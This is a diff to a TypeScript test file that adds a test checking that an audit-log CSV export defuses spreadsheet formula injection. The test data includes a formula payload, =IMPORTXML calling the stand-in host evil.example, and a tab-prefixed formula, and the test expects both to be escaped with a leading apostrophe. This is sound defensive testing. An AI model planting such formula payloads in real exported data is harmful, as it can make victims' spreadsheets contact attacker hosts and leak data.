@@ -6,6 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DEMO_ADMIN } from '../serve.mjs';
 import type { AuditEntry } from './audit.ts';
 import { diff, flat, RECIPES } from './audit.ts';
+import { parseCsv } from '../../src/lib/csv.ts';
 import { isExpired } from './rules.ts';
 import { startThroughPrism } from './through-prism.ts';
 
@@ -405,6 +406,30 @@ describe('the audit log', () => {
     const sent = entries().filter((e) => e.action === 'broadcast.sent').length;
     expect(lines.length - 1).toBeGreaterThanOrEqual(sent);
     expect(lines.length - 1).toBeGreaterThan(10);
+  });
+
+  it('exports a label and a reason that start a formula as text', async () => {
+    const name = '\t=1+2';
+    const created = await call('POST', '/api/missions', {
+      name: '=IMPORTXML("https://evil.example","//a")',
+      description: 'A mission whose name a spreadsheet would run.',
+      category: 1,
+      type: 'VisitBased',
+      pointsReward: 80,
+      visitLimit: 2,
+      dueDate: '2099-04-30',
+    });
+    expect(created.status).toBe(200);
+    const entry = entries().at(-1)!;
+    // A reason as an admin could type it (only the points adjustment asks for one).
+    entry.reason = name;
+    const answer = await backEnd.call('GET', '/api/audit-log?action=mission.created', {
+      token,
+      headers: { accept: 'text/csv' },
+    });
+    const row = parseCsv(String(answer.data)).find((r) => r[0] === entry._id);
+    expect(row?.[7]).toBe('\'=IMPORTXML("https://evil.example","//a")');
+    expect(row?.[9]).toBe("'\t=1+2");
   });
 
   it("answers 404 for an unknown member's timeline", async () => {
